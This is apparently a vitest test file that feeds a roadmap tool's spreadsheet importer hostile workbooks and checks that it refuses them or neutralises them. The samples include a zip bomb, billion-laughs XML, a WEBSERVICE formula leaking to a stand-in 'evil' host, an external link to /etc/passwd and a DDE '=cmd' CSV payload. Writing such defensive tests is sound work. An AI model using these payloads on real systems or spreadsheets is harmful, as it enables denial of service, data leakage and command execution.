/**
 * The hostile catalogue of `roadmap import`: workbook bombs (a zip bomb,
 * huge shared strings, a million rows, an XML document type), formulas in
 * cells (never evaluated, never written back), an XLSX with external links
 * and a CSV with `=cmd|…` cells. Each ends as a clear refusal or a safe
 * import, fast, with the roadmap untouched when refused.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { readSpreadsheet } from '../src/parse/office/readSpreadsheet.js';
import { assertNoCrash, runMain } from './helpers/cli.js';
import { useTempRoadmap } from './helpers/tempRoadmap.js';

const temp = useTempRoadmap('roadmap-hostile-import-');
const G = 'commitments/guichet-unique.md';

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A minimal XLSX around one sheet's XML; `extra` adds or replaces parts. */
function xlsx(sheetData: string, extra: Zippable = {}, rels = ''): Uint8Array {
  return zipSync(
    {
      '[Content_Types].xml': strToU8('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
      'xl/workbook.xml': strToU8(
        `<workbook xmlns="${MAIN}" xmlns:r="${REL}"><sheets><sheet name="Engagements" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      ),
      'xl/_rels/workbook.xml.rels': strToU8(
        `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${REL}/sharedStrings" Target="sharedStrings.xml"/>${rels}</Relationships>`,
      ),
      'xl/worksheets/sheet1.xml': strToU8(`<worksheet xmlns="${MAIN}"><sheetData>${sheetData}</sheetData></worksheet>`),
      ...extra,
    },
    { level: 1 },
  );
}

const header =
  '<row r="1"><c r="A1" t="inlineStr"><is><t>Identifiant (ne pas modifier)</t></is></c><c r="B1" t="inlineStr"><is><t>Nouvel avancement (0 à 100)</t></is></c><c r="C1" t="inlineStr"><is><t>Nouvelles pour le journal</t></is></c></row>';
const idCell = (row: number) => `<c r="A${row}" t="inlineStr"><is><t>guichet-unique</t></is></c>`;

async function importFile(name: string, bytes: Uint8Array | string) {
  writeFileSync(join(temp.dir, name), bytes);
  const before = readFileSync(join(temp.root, G), 'utf8');
  const started = performance.now();
  const result = await runMain(['import', name, '--dir', temp.root], { today: '2026-12-01', cwd: temp.dir });
  const elapsed = performance.now() - started;
  assertNoCrash(result);
  return {
    ...result,
    elapsed,
    unchanged: readFileSync(join(temp.root, G), 'utf8') === before,
    after: readFileSync(join(temp.root, G), 'utf8'),
  };
}

describe('import: hostile workbooks', () => {
  it('a zip bomb: a part that inflates past the bound is refused without inflating the rest', async () => {
    // 49 MiB of zeros deflate to about 50 KiB; the reader stops at its 48 MiB bound, whatever size the headers declare.
    const bomb = xlsx('', { 'xl/worksheets/sheet1.xml': new Uint8Array(49 * 1024 * 1024) });
    const before = process.memoryUsage().rss;
    const result = await importFile('bomb.xlsx', bomb);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('une fois décompressée, dépasse la taille admise');
    expect(result.unchanged).toBe(true);
    expect(result.elapsed).toBeLessThan(15_000);
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024);
  });

  it('huge shared strings are refused by their own bound', async () => {
    const strings = `<sst xmlns="${MAIN}">${'<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>'.repeat(220_000)}</sst>`;
    const result = await importFile('strings.xlsx', xlsx(header, { 'xl/sharedStrings.xml': strToU8(strings) }));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('dépasse la taille admise');
  });

  it('a million rows: refused at the first filled row past the bound', async () => {
    const sparse = await importFile(
      'rows.xlsx',
      xlsx(`${header}<row r="1000000">${idCell(1000000)}<c r="B1000000"><v>10</v></c></row>`),
    );
    expect(sparse.code).toBe(2);
    expect(sparse.stderr).toContain('plus de 50 000 lignes remplies');
    const csv = await importFile(
      'rows.csv',
      `Identifiant (ne pas modifier);Nouvel avancement (0 à 100)\n${'guichet-unique;10\n'.repeat(1_000_000)}`,
    );
    expect(csv.code).toBe(2);
    expect(csv.stderr).toContain('plus de 50 000 lignes remplies');
    expect(csv.elapsed).toBeLessThan(10_000);
  });

  it('an ODS row repeated a million times: empty it costs nothing, filled it is refused', () => {
    const ods = (row: string) =>
      zipSync({
        mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
        'content.xml': strToU8(
          `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="S">${row}</table:table></office:spreadsheet></office:body></office:document-content>`,
        ),
      });
    const empty = readSpreadsheet(
      ods(
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
      ),
      'ods',
    );
    expect(empty.ok && empty.sheets[0]!.rows.size).toBe(0);
    const filled = readSpreadsheet(
      ods(
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>',
      ),
      'ods',
    );
    expect(filled).toEqual({ ok: false, problem: 'too-many-rows' });
    const wide = readSpreadsheet(
      ods(
        '<table:table-row><table:table-cell table:number-columns-repeated="100000" office:value-type="float" office:value="1"/></table:table-row>',
      ),
      'ods',
    );
    expect(wide).toEqual({ ok: false, problem: 'too-many-columns' });
  });

  it('an XML document type (the billion laughs) is refused, never expanded', async () => {
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><sst xmlns="${MAIN}"><si><t>&lol2;</t></si></sst>`;
    const result = await importFile('laughs.xlsx', xlsx(header, { 'xl/sharedStrings.xml': strToU8(laughs) }));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('DOCTYPE');
  });

  it('formulas are never evaluated: a formula in a cell to fill is refused, with its cell', async () => {
    const result = await importFile(
      'formula.xlsx',
      xlsx(
        `${header}<row r="2">${idCell(2)}<c r="B2"><f>SUM(1,2)*10</f><v>30</v></c><c r="C2" t="str"><f>WEBSERVICE("http://evil/")</f><v>leak</v></c></row>`,
      ),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Engagements!B2: une formule');
    expect(result.stderr).toContain('Engagements!C2: une formule');
    expect(result.unchanged).toBe(true);
  });

  it('external links are never followed: a formula using one is refused, the link part never read', async () => {
    const result = await importFile(
      'external.xlsx',
      xlsx(
        `${header}<row r="2">${idCell(2)}<c r="B2"><f>[1]Feuil1!A1</f><v>99</v></c></row>`,
        {
          'xl/externalLinks/externalLink1.xml': strToU8(
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1"/></externalLink>',
          ),
        },
        `<Relationship Id="rId3" Type="${REL}/externalLink" Target="file:///etc/passwd" TargetMode="External"/>`,
      ),
    );
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('Engagements!B2: une formule');
    // Without a formula, the same workbook imports: the link is inert.
    const plain = await importFile(
      'external-plain.xlsx',
      xlsx(
        `${header}<row r="2">${idCell(2)}<c r="B2"><v>55</v></c></row>`,
        {},
        `<Relationship Id="rId3" Type="${REL}/externalLink" Target="http://evil.example/book.xlsx" TargetMode="External"/>`,
      ),
    );
    expect(plain.code).toBe(0);
    expect(plain.after).toContain('progress: 55');
  });

  it('a CSV with =cmd|… cells: news kept as text in the YAML, never a formula again', async () => {
    const payload = "=cmd|' /C calc'!A0";
    const result = await importFile(
      'dde.csv',
      `Identifiant (ne pas modifier);Nouvelles pour le journal\nguichet-unique;"${payload}"\n`,
    );
    expect(result.code).toBe(0);
    const front = parse(result.after.split('---')[1]!) as { updates: { text: string; source: string }[] };
    expect(front.updates.at(-1)).toEqual({ date: '2026-12-01', text: payload, source: 'dde.csv' });
    // Exported again as CSV, the text comes back neutralised for spreadsheets.
    const actions = await runMain(['report', '--by', 'commitment', '--format', 'csv', '--dir', temp.root], {
      today: '2026-12-01',
    });
    expect(actions.stdout).not.toMatch(/(^|;)=cmd/m);
  });

  it('a file that is not a spreadsheet, or a truncated zip, is refused clearly', async () => {
    const truncated = xlsx(header).subarray(0, 200);
    expect((await importFile('cut.xlsx', truncated)).stderr).toContain('archive illisible');
    expect((await importFile('text.xlsx', 'hello')).stderr).toContain('ni un classeur XLSX');
    const binary = await importFile('binary.csv', new Uint8Array([0, 1, 2, 0, 0, 255]));
    expect(binary.code).toBe(2);
  });
});
